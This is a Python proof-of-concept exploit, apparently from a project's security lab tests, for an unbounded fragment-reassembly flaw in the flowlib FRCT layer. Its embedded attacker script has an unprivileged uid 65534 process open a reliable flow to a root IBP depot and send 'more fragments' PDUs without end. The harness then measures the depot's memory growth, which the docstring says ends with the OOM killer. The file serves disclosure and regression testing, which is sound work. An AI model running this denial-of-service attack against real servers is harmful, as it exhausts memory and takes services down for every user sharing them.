"""flowlib/FRCT: a peer grows a server's memory without bound with one SDU that never ends.

FRCT reassembles fragmented SDUs in `Frct.fragments` with no limit on the SDU's size (APP_MTU,
65,535 bytes, is only what our senders produce), and the flow engine reads every PDU the layer
delivers whatever the window says. uid 65534 allocates a reliable flow to a root IBP depot, takes
the raw descriptor (no FRCT of its own) and sends a first fragment followed by "more fragments"
forever: the depot's memory grows by what was sent, until the OOM killer ends it for everyone.
"""

from __future__ import annotations

import subprocess
import time

from lab import BIN, irmd, lab, main, nobody_popen, rss_mb, spawn, stop, wait_for

SEND_MB = 300

ATTACKER = r"""
import socket, sys, time
from flowlib.crc import add as with_crc  # qos data: ber 0, a CRC32 on every packet
from flowlib.frct import DATA, DRF, FFGM, MFGM, PCI, Pci
from flowlib.irm import IrmClient
from proto.qos import data as reliable
irm = IrmClient()
reply, fd = irm.alloc("depot1", reliable, 10)
s = socket.socket(fileno=fd)
s.settimeout(10)
payload = b"A" * (min(reply.mtu, 65000) - PCI.size - 4)
total = int(sys.argv[1]) << 20
seq, sent = 1000, 0
try:
    s.send(with_crc(Pci(DATA | DRF | FFGM | MFGM, 0, seq, 0).pack() + payload))
    while sent < total:
        seq, sent = seq + 1, sent + len(payload)
        s.send(with_crc(Pci(DATA | MFGM, 0, seq, 0).pack() + payload))  # more fragments, never the last
except OSError as e:
    print("the flow ended:", e, flush=True)
print("sent", sent >> 20, "MB in", seq - 1000, "PDUs of", len(payload) + PCI.size + 4, "bytes", flush=True)
time.sleep(60)
"""


def attack() -> bool:
    with lab("frctfrag") as d, irmd(d) as ir:
        depot = spawn(
            [
                str(BIN / "ibp"),
                "depot",
                "--name",
                "depot1",
                "--dir",
                str(d / "depot1"),
                "--capacity",
                "16M",
                "--layer",
                "local",
            ],
            ir.env,
            d / "depot.log",
        )
        attacker = None
        try:
            wait_for(lambda: "depot1" in ir.irm("name", "list").stdout, 40, "the depot")
            before = rss_mb(depot.pid)
            attacker = nobody_popen(ir, ATTACKER, str(SEND_MB), stdout=subprocess.PIPE)
            assert attacker.stdout is not None
            print("attacker (uid 65534):", attacker.stdout.readline().strip())
            time.sleep(2)
            after = rss_mb(depot.pid)
            print(f"the root depot's resident memory: {before:.0f} MB before, {after:.0f} MB after")
            return after - before > SEND_MB / 2
        finally:
            if attacker is not None:
                stop(attacker)
            stop(depot)


if __name__ == "__main__":
    main(attack, 200)
